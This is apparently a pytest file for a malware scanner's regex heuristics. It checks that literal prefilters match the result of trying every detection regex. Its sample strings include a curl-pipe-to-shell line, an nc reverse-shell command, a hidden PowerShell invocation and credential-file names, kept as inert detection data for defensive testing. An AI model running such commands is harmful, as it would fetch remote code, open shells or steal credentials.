"""The literal gates in front of the intent regexes: a regex is skipped on a string only
when the string lacks every literal that regex cannot match without, so the signals of
every string are the same as trying each regex on it."""

from __future__ import annotations

import re

import pytest

from scanner.checks.heuristics import vocabulary
from scanner.checks.heuristics.literals import anchored, literal_regex, required_literals


def _reference(sample: str) -> tuple[tuple[str, str], ...]:
    """Every intent regex tried on the string, in order (what the gates must agree with)."""
    out = []
    for name, rx in vocabulary._STRING_RES:
        m = rx.search(sample)
        if m:
            out.append((name, m.group(0)[:120]))
    return tuple(out)


@pytest.mark.parametrize(
    ("pattern", "flags", "expected"),
    [
        (
            r"discord(?:app)?\.com/api/webhooks|api\.telegram\.org/bot",
            0,
            {".com/api/webhooks", "api.telegram.org/bot"},
        ),
        (r"(?:curl|wget)\b[^|;&]*\|\s*sh", re.IGNORECASE, {"curl", "wget"}),
        (r"(?:ab){2,}x?", 0, {"ab"}),
        (r"Login Data|Cookies\b", re.IGNORECASE, {"login data", "cookies"}),
        (r"x?y*\d+", 0, None),  # nothing fixed: always tried
        (r"abc|\w+", 0, None),  # one branch without a literal: no gate for the whole
    ],
)
def test_required_literals(pattern: str, flags: int, expected: set[str] | None) -> None:
    found = required_literals(pattern, flags)
    assert (set(found) if found is not None else None) == expected


def test_a_non_ascii_literal_is_no_gate() -> None:
    # under IGNORECASE the Kelvin sign matches "k" in ASCII text
    assert required_literals("\u212aey", re.IGNORECASE) is None
    assert re.search("\u212aey", "key", re.IGNORECASE)


def test_anchored() -> None:
    assert anchored(r"^\s*(?:whoami|id)\s*$")
    assert not anchored(r"^a|b")  # only one branch is anchored
    assert not anchored(r"(?m)^a")
    assert not anchored(r"a^")


def test_literal_regex_finds_each_literal_anywhere() -> None:
    words = ["ab", "abc", "b", "xyz", "x.y"]
    rx = literal_regex(words)
    for w in words:
        assert rx.search(f"--{w}--")
    assert not rx.search("x-y zz")
    assert not literal_regex([]).search("anything")


SHAPES = [
    "https://discord.com/api/webhooks/123456789/abcdefghijklmnopqrstuvwx",
    "curl -s http://1.2.3.4/x | sh",
    "~/.ssh/id_rsa",
    "AWS_SECRET_ACCESS_KEY",
    "whoami",
    "8.8.8.8",
    "http://8.8.8.8:8080/",
    "powershell -w hidden -EncodedCommand abc",
    "xmrig --donate-level 1",
    "Login Data",
    "C:\\Users\\x\\AppData\\Roaming\\Exodus",
    "nc -e /bin/sh 10.0.0.1 4444",
    "node bundle.js",
    "twine upload dist/*",
    "the function returns once",
    "ordinary text",
    "Login D\u0430ta",  # a Cyrillic a: not ASCII, so every regex is tried
    "\u212aEY3.DB",
]


@pytest.mark.parametrize("sample", SHAPES)
def test_gated_signals_equal_every_regex_tried(sample: str) -> None:
    assert vocabulary._string_signals_cached.__wrapped__(sample) == _reference(sample)


def test_gated_signals_on_every_string_of_the_rule_examples() -> None:
    """Every string literal of every rule example, in its three cases."""
    import ast

    from scanner.checks.heuristics.rules import default_rules

    seen = 0
    for rule in default_rules():
        for example in rule.tests:
            for _, data in example.files:
                try:
                    tree = ast.parse(data)
                except (SyntaxError, ValueError):
                    continue
                for node in ast.walk(tree):
                    if isinstance(node, ast.Constant) and isinstance(node.value, str):
                        for sample in (node.value, node.value.upper(), node.value.lower()):
                            seen += 1
                            assert vocabulary._string_signals_cached.__wrapped__(
                                sample
                            ) == _reference(sample), sample
    assert seen > 300
